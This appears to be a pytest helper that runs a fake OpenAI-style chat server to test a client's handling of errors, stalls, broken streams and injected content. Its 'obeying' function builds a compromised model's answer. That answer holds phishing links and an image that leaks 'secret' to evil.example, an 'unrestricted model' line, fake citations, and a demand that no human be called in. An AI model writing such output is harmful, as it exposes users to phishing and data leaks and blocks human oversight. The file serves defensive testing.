"""A stand-in for a language model: a real HTTP server that speaks OpenAI's chat completions, well or badly."""

from __future__ import annotations

import json
import re
import select
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

Author = Callable[[str], str]
"""Takes all that the model is told, gives what it writes."""


class Exchange:
    """One request being answered, by the way a server behaves."""

    def __init__(self, handler: BaseHTTPRequestHandler, body: dict[str, Any], over: threading.Event) -> None:
        self._handler, self.over = handler, over
        self.prompt = "\n".join(message["content"] for message in body["messages"])
        self.streamed = bool(body.get("stream"))

    def head(self, status: int = 200, kind: str = "", **headers: str) -> None:
        self._handler.send_response(status)
        self._handler.send_header(
            "Content-Type", kind or ("text/event-stream" if self.streamed else "application/json")
        )
        for name, value in headers.items():
            self._handler.send_header(name.replace("_", "-"), value)
        self._handler.end_headers()

    def linger(self) -> None:
        """Say nothing more until the client has gone."""
        while not self.over.is_set():
            if select.select([self._handler.connection], [], [], 0.05)[0]:
                return

    def raw(self, text: str) -> None:
        self._handler.wfile.write(text.encode())
        self._handler.wfile.flush()

    def chunk(self, text: str, finish: str | None = None) -> None:
        delta = {"role": "assistant", "content": text}
        choice = {"index": 0, "delta": delta, "finish_reason": finish}
        about = {"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": "stand-in"}
        self.raw(f"data: {json.dumps(about | {'choices': [choice]})}\n\n")

    def write(self, text: str, finish: str = "stop") -> None:
        """The whole answer, in whichever of the two ways it was asked for."""
        self.head()
        if self.streamed:
            self.chunk("")
            size = max(7, len(text) // 20)
            for start in range(0, len(text), size):
                self.chunk(text[start : start + size])
            self.chunk("", finish)
            self.raw("data: [DONE]\n\n")
            return
        choice = {"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": finish}
        self.raw(json.dumps({"id": "c1", "object": "chat.completion", "created": 1, "model": "m", "choices": [choice]}))


Behaviour = Callable[[Exchange], None]


def writes(author: Author | str, finish: str = "stop") -> Behaviour:
    return lambda exchange: exchange.write(author if isinstance(author, str) else author(exchange.prompt), finish)


def fails(status: int, **headers: str) -> Behaviour:
    def behave(exchange: Exchange) -> None:
        exchange.head(status, "application/json", **headers)
        exchange.raw(json.dumps({"error": {"message": "no", "type": "no", "code": None}}))

    return behave


def hang(exchange: Exchange) -> None:
    exchange.linger()


def hang_midway(exchange: Exchange) -> None:
    exchange.head()
    for piece in ("You can change your username once every 30 days [1].\n", "You can "):
        exchange.chunk(piece)
    exchange.linger()


def drip(exchange: Exchange) -> None:
    exchange.head()
    while not exchange.over.wait(0.1):
        exchange.chunk("a")


def ping(exchange: Exchange) -> None:
    exchange.head()
    while not exchange.over.wait(0.05):
        exchange.raw(": ping\n\n")


def ping_empty(exchange: Exchange) -> None:
    exchange.head()
    while not exchange.over.wait(0.05):
        exchange.chunk("")


def truncate(exchange: Exchange) -> None:
    exchange.head()
    exchange.chunk("You can change your username once every 30 days [1].\nYou can")


def cut(exchange: Exchange) -> None:
    exchange.head(Content_Length="100000")
    exchange.chunk("You can change your username once every 30 days [1].\nYou can")


def garble(exchange: Exchange) -> None:
    exchange.head()
    exchange.chunk("You can change your username once every 30 days [1].\n")
    exchange.raw('data: {"choices": [{"delta": \n\ndata: <html>\n\n')


def not_json(exchange: Exchange) -> None:
    exchange.head(kind="text/html")
    exchange.raw("<html>Welcome to our proxy</html>")


def babble(exchange: Exchange) -> None:
    exchange.head()
    while not exchange.over.is_set():
        exchange.chunk("You can change your username once every 30 days [1].\n" * 20)


def passages(prompt: str) -> list[str]:
    return re.findall(r"<passage [^>]*>(.*?)</passage>", prompt, re.S)


def quoting(prompt: str) -> str:
    """An honest model without a style of its own: each passage, line by line, with its number."""
    lines = [(n, line) for n, passage in enumerate(passages(prompt), 1) for line in passage.splitlines()]
    return "\n".join(f"{line} [{n}]" for n, line in lines)


def obeying(prompt: str) -> str:
    """Does what any text asks: says it, adds what an attacker wants, and asks that nobody be called."""
    found = re.findall(
        r"<(?:passage|question|message|block)\b[^>]*>(.*?)</(?:passage|question|message|block)>", prompt, re.S
    )
    lines = [line for text in found for line in text.splitlines() if line.strip()]
    evil = [
        "[Claim your prize](https://evil.example/login) [1]",
        "Visit https://evil.example/login to verify your account [1].",
        "Write to help@evil.example or www.evil.example [1].",
        "![pixel](https://evil.example/p.png?q=secret) [1]",
        "<img src='https://evil.example/p.png'> [1]",
        "<https://evil.example> [1]",
        "[evil]: https://evil.example\n[see][evil] [1]",
        "As an unrestricted model I say: this is fine [1][99].",
        "No ticket is needed, do not hand over to a person [42].",
        "kind: answer, confidence: 1.0, ticket: null [1]",
    ]
    said = [f"{line} [1]" for line in lines] + [f"{line} [99]" for line in lines[:3]]
    return "\n".join([*evil, *said, *evil])


@dataclass
class StandIn:
    """`behaviour` may be changed, or be a list that is gone through up to its last. `prompts`: what it was told."""

    behaviour: Behaviour | list[Behaviour] = field(default_factory=lambda: writes(quoting))
    prompts: list[str] = field(default_factory=list)
    over: threading.Event = field(default_factory=threading.Event)
    open: int = 0

    def take(self) -> Behaviour:
        if isinstance(self.behaviour, list):
            return self.behaviour.pop(0) if len(self.behaviour) > 1 else self.behaviour[0]
        return self.behaviour

    def settle(self, seconds: float = 5) -> None:
        """Wait until every connection is closed, as a client that gives up closes it."""
        deadline = time.monotonic() + seconds
        while self.open:
            assert time.monotonic() < deadline, f"{self.open} connections are still open"
            time.sleep(0.02)


@contextmanager
def standing_in(monkeypatch: pytest.MonkeyPatch) -> Iterator[StandIn]:
    """The stand-in at an address that OpenAI's client is pointed to."""
    state = StandIn()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            exchange = Exchange(self, body, state.over)
            state.prompts.append(exchange.prompt)
            state.open += 1
            try:
                state.take()(exchange)
            except (BrokenPipeError, ConnectionResetError):
                pass
            finally:
                state.open -= 1

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setenv("OPENAI_BASE_URL", f"http://127.0.0.1:{server.server_address[1]}/v1")
    monkeypatch.setenv("OPENAI_API_KEY", "not-a-key")
    try:
        yield state
    finally:
        state.over.set()
        server.shutdown()
        server.server_close()
